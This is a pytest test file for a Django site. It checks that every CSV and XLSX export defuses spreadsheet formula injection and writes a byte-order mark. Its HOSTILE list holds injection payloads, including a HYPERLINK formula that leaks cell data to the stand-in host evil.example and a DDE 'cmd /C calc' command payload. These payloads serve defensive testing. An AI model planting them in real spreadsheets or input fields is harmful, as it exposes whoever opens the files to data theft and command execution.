"""Every CSV/XLSX export of the site goes through one writer (``core.exports``).

A hostile name typed by the public (a parent's name, an event registration, a question, a
course or quiz title, a case handler) must reach every export as inert text: the CSV starts
with a UTF-8 byte-order mark, and no cell of either format can be run as a formula.
"""

from __future__ import annotations

import csv
import io
import re

from django.urls import reverse

import pytest
from openpyxl import load_workbook

from accounts.models import User
from accounts.roles import Role
from core import exports
from courses import quizzes, services
from courses.models import Question
from tests.factories.accounts import UserFactory, sign_in_fully
from tests.factories.alliance import EventRegistrationFactory, event
from tests.factories.courses import QuizPageFactory, catalogue, course_with_lessons, question
from tests.factories.schools import SchoolFactory, district_staff, submitted_case

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "＝1+1",
    "@SUM(1)",
    "  -2+3",
    "\t=1+1",
    "＠SUM(1)",
]
# An independent statement of what a spreadsheet would run: first non-blank character is a
# formula sign (ASCII or full-width), or the cell starts with a tab or carriage return.
RUNNABLE = re.compile(r"^(?:[\t\r]|\s*[=+\-@＝＋－＠])")


def runnable_cells(rows) -> list[str]:
    return [cell for row in rows for cell in row if isinstance(cell, str) and RUNNABLE.match(cell)]


@pytest.fixture
def hostile_world(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    catalogue()
    teacher = UserFactory(role=Role.TEACHER)
    courses = [course_with_lessons(1, title=name, teacher=teacher) for name in HOSTILE]
    for text in HOSTILE:
        question(text, options=((text, True), ("正常选项", False)), explanation=text)
    quiz = QuizPageFactory(parent=courses[0], title=HOSTILE[0], question_count=len(HOSTILE), pass_mark_percent=50)
    for course, name in zip(courses[1:], HOSTILE[1:], strict=True):
        QuizPageFactory(parent=course, title=name)
    for name in HOSTILE:
        parent = UserFactory(role=Role.PARENT, name=name)
        services.enrol(parent, courses[0])
        attempt = quizzes.start_attempt(parent, quiz)
        quizzes.submit_attempt(parent, attempt.pk, {row.position: [] for row in attempt.answers.all()})
    alliance_event = event(title="家长课堂")
    for name in HOSTILE:
        EventRegistrationFactory(event=alliance_event, name=name, organisation=name)
    school = SchoolFactory()
    for name in HOSTILE:
        case = submitted_case(school=school)
        case.handler = UserFactory(role=Role.SCHOOL_OFFICER, name=name)
        case.save(update_fields=["handler"])
    superuser = User.objects.create_superuser(username="root", email="root@example.invalid", password="x-123456789")
    return {"quiz": quiz, "event": alliance_event, "superuser": superuser, "district": district_staff()}


def export_urls(world) -> list[tuple[str, str, str]]:
    """(who, url, format) for every export URL of the project (grep: list_export, table_to_)."""
    quiz, alliance_event = world["quiz"], world["event"]
    urls = []
    for file_format in ("csv", "xlsx"):
        query = f"?export={file_format}"
        urls += [
            ("superuser", reverse("course_enrolments:index") + query, file_format),
            ("superuser", reverse("course_report") + query, file_format),
            ("superuser", reverse("quiz_report") + query, file_format),
            ("superuser", reverse("quiz_item_analysis", args=[quiz.pk]) + query, file_format),
            ("superuser", reverse("course_quiz_attempts:index") + query, file_format),
            ("superuser", reverse("alliance_registrations_export", args=[alliance_event.pk, file_format]), file_format),
            ("district", reverse("schools:export", args=[file_format]), file_format),
            ("superuser", reverse("wagtailadmin_reports:site_history") + query, file_format),  # Wagtail's own
        ]
    urls.append(("superuser", reverse("question_bank_export"), "xlsx"))
    return urls


def read(response, file_format) -> list[list]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if file_format == "csv":
        assert body.startswith(b"\xef\xbb\xbf"), "a CSV export must start with the UTF-8 byte-order mark"
        return list(csv.reader(io.StringIO(body.decode("utf-8")[1:])))
    workbook = load_workbook(io.BytesIO(body))
    sheet = workbook.worksheets[0]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_every_export_url_defuses_hostile_names_and_writes_a_bom(client, hostile_world):
    checked = 0
    for who, url, file_format in export_urls(hostile_world):
        sign_in_fully(client, hostile_world[who])
        response = client.get(url)
        assert response.status_code == 200, url
        rows = read(response, file_format)
        assert runnable_cells(rows) == [], url
        cells = {cell for row in rows for cell in row if isinstance(cell, str)}
        found = [name for name in HOSTILE if "'" + name in cells]
        assert found, f"{url}: no hostile name came through (defused) at all"
        checked += 1
    assert checked == 17


def test_the_question_bank_export_still_imports_back_to_the_same_text():
    from courses import question_bank

    for text in HOSTILE:
        question(text, options=((text, True), ("正常选项", False)), explanation=text)
    data = question_bank.export_questions(Question.objects.order_by("pk"))
    Question.objects.all().delete()
    result = question_bank.import_questions(io.BytesIO(data))
    assert result.ok, result.errors
    assert sorted(Question.objects.values_list("text", flat=True)) == sorted(HOSTILE)


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "  =1", "\u3000=1", "＝1", "＋1", "－1", "＠A1", "\n =1"],
)
def test_safe_cell_quotes_every_formula_start(value):
    assert exports.safe_cell(value) == "'" + value
    assert exports.undo_safe_cell(exports.safe_cell(value)) == value


@pytest.mark.parametrize("value", ["王小明", "家长 A", "1+1", "a=b", "", "'=already quoted", 3, None])
def test_safe_cell_leaves_plain_text_and_numbers_alone(value):
    assert exports.safe_cell(value) == value


def test_wagtails_export_mixin_writes_through_the_one_writer():
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    assert SpreadsheetExportMixin.stream_csv.__module__ == "core.exports"
    assert SpreadsheetExportMixin.write_xlsx.__module__ == "core.exports"


def test_xlsx_drops_characters_the_format_cannot_hold():
    data = exports.table_to_xlsx(["name"], [["王\x00小\x07明"]])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A2"].value == "王小明"
